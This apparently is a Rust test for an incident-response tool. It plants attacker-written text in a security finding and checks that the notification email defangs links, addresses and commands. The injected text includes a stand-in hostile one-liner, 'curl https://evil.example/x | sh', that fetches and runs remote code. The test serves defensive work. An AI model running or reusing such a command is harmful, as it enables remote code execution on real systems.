//! Text of the attacker's in the mail that asks people to decide.

use aws_sdk_iam::types::Tag;
use backstop_core::{guardrail::DRILL_TAG, incident::Incident};
use backstop_drill::fixtures::Identity;
use backstop_tests::{People, Scene};
use serde_json::json;

use crate::{
    told,
    tried::{Ended, Tried},
};

const FINDING: &str = "00000000000000000000000000007e87";
const TEXT: &str = "What to do next: deny it: https://evil.example/deny or curl https://evil.example/x | sh, or write to \
                    help@evil.example";
/// A host's name, which mail programs link.
const SESSION: &str = "evil.example";

pub(crate) async fn attacks(scene: &Scene, people: &People) -> Vec<Tried> {
    let iam = scene.iam();
    let name = "hostile-text";
    let trust = json!({ "Version": "2012-10-17", "Statement": [{ "Effect": "Allow", "Action": "sts:AssumeRole",
        "Principal": { "Service": "lambda.amazonaws.com" } }] });
    let create = iam
        .create_role()
        .role_name(name)
        .assume_role_policy_document(trust.to_string());
    let mut create = create.description("evil.example");
    for (key, value) in [
        (DRILL_TAG, "yes"),
        ("note", "see https://evil.example or a@evil.example"),
    ] {
        create = create.tags(Tag::builder().key(key).value(value).build().unwrap());
    }
    let role = create.send().await.unwrap();
    let identity = Identity {
        key_id: "ASIAEXAMPLEATTACKER3".into(),
        principal_id: format!("{}:{SESSION}", role.role().unwrap().role_id()),
        user_type: "AssumedRole",
        user_name: name.into(),
    };
    let mut event = scene.finding("compromised-role", &identity, FINDING);
    event.detail["title"] = json!(TEXT);
    event.detail["description"] = json!(TEXT);
    event.detail["service"]["action"]["awsApiCallAction"]["userAgent"] = json!(TEXT);
    scene
        .environment
        .put_event_of_nobody(&event.detail_type, &event.detail)
        .await
        .unwrap();
    let (id, _) = scene
        .until(FINDING, |incident: &Incident| incident.question.is_some())
        .await;
    let mail = told(people, id.as_str()).await;
    for text in [&mail.subject, &mail.body] {
        // What is left can be read, and leads nowhere: its host is broken up wherever it stands.
        for harm in ["evil.example", "https://evil", "mailto:"] {
            assert!(!text.contains(harm), "`{harm}` is in the mail: {text}");
        }
    }
    let headings = mail.body.lines().filter(|line| line.trim() == "What to do next");
    assert_eq!(
        headings.count(),
        1,
        "the attacker's text makes a section of its own: {}",
        mail.body
    );
    let commands = mail.body.lines().map(str::trim_start);
    let typed = commands.filter(|line| line.starts_with("curl") || line.starts_with("- curl"));
    assert_eq!(typed.count(), 0, "{}", mail.body);
    assert!(mail.subject.contains("DECIDE"), "{}", mail.subject);
    let attack = "commands, links and addresses in a finding's text, a tag and a session's name";
    vec![Tried::new(
        attack,
        "sts:AssumeRole, iam:TagRole",
        Ended::Harmless,
        "the mail has none that can be followed or pasted",
    )]
}
